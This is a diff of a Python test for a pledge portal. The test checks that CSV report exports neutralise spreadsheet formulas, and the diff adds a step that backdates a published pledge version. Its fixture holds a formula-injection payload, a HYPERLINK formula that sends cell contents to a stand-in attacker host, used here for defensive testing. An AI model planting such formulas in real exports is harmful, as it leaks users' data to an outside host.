@@ -4,8 +4,12 @@ cells do, through the one helper both use (portal.csv_safe)."""
 
 import csv
 import io
+from datetime import UTC, datetime
+
+from sqlalchemy import update
 
 from portal.csv_safe import safe_cell
+from portal.models import PledgeVersion
 from tests.pledge.conftest import build_draft, sign_off_and_publish
 
 FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Help you learn")'
@@ -19,9 +23,13 @@ def report_cells(runner, tmp_path):
     return {(table, row, column): value for _section, table, row, column, value in lines[2:]}
 
 
-def test_report_csv_neutralises_a_formula_title_and_a_signed_change(known_year, build, runner, tmp_path):
+def test_report_csv_neutralises_a_formula_title_and_a_signed_change(known_year, build, runner, tmp_path, db_session):
     promises = [("A good education", FORMULA_TITLE, "We will help you learn at school.", "We help you at school.")]
-    build(lambda people: sign_off_and_publish(build_draft(people, promises=promises)[0], people))
+    version_id = build(lambda people: sign_off_and_publish(build_draft(people, promises=promises)[0], people).id)
+    # Published within 2025-26: the report shows the Pledge as it stood at the end of its year.
+    published = datetime(2025, 6, 1, tzinfo=UTC)
+    db_session.execute(update(PledgeVersion).where(PledgeVersion.id == version_id).values(published_at=published))
+    db_session.commit()
 
     cells = report_cells(runner, tmp_path)
 
